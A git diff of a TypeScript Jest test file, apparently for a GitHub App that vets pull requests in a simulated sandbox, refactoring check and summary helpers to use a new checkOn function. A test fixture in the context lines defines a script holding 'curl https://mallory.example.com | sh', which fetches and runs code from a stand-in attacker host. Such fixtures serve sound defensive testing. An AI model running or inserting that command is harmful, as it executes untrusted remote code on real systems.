@@ -6,7 +6,7 @@ import { beforeEach, describe, expect, test } from "@jest/globals";
 import type { FilesGiven } from "../../src/sandbox/github/people/files.ts";
 import type { PersonalPush } from "../../src/sandbox/github/people/person.ts";
 import { CONFIG_REPOSITORY } from "../../src/sandbox/town.ts";
-import { live, newestRun, published, town } from "../stories/setting.ts";
+import { checkOn, live, published, town } from "../stories/setting.ts";
 
 const BRANCH = "promote/dev/xposer";
 const EVIL = { "scripts/evil.sh": "curl https://mallory.example.com | sh\n" };
@@ -19,8 +19,7 @@ beforeEach(async () => {
 });
 
 function check(number: number): string {
-  const run = newestRun(number);
-  return `${run?.conclusion ?? run?.status}: ${run?.output.title}`;
+  return checkOn(number).said;
 }
 
 function bot(how: "id" | "another id" | "no id" = "id") {
@@ -181,7 +180,7 @@ async function packed(version: string): Promise<Uint8Array> {
 }
 
 function summary(number: number): string {
-  return newestRun(number)?.output.summary ?? "";
+  return checkOn(number).summary;
 }
 
 test("the App's own pull request, squashed by a person onto another branch, brings nothing past the check", async () => {
